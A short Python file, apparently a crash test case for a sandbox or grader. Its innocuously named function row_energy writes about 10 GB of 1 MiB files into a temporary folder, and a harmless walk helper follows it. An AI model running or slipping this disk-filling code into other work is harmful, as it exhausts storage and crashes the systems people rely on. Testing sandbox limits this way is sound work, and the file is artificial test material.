"""Fills the temporary folder with files.

CRASH
"""

import os
import tempfile


def row_energy(x):
    folder = tempfile.mkdtemp()
    for number in range(10_000):
        with open(os.path.join(folder, str(number)), "wb") as file:
            file.write(bytes(1 << 20))


def walk(start, n, step):
    found = []
    for _ in range(n):
        start = step(start)
        found.append(start)
    return found
